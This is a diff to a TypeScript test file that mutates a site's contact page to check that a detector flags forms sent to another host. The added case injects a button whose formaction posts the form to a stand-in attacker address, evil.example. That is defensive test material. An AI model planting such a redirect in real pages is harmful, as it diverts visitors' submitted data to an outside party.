@@ -97,6 +97,12 @@ const breakages: readonly Breakage[] = [
     /^\/contact: sends forms to another host: https:\/\/evil\.example \(\/take\)$/,
   ],
   [
+    'a button that sends its form to a third party',
+    /^\/contact$/,
+    withText('<h1>', '<button formaction="https://evil.example/take">Send</button><h1>'),
+    /^\/contact: sends forms to another host: https:\/\/evil\.example \(\/take\)$/,
+  ],
+  [
     'a contact page without its form',
     /^\/contact$/,
     withText('action="/functions/v1/TRIAGE-send', 'action="/functions/v1/send'),
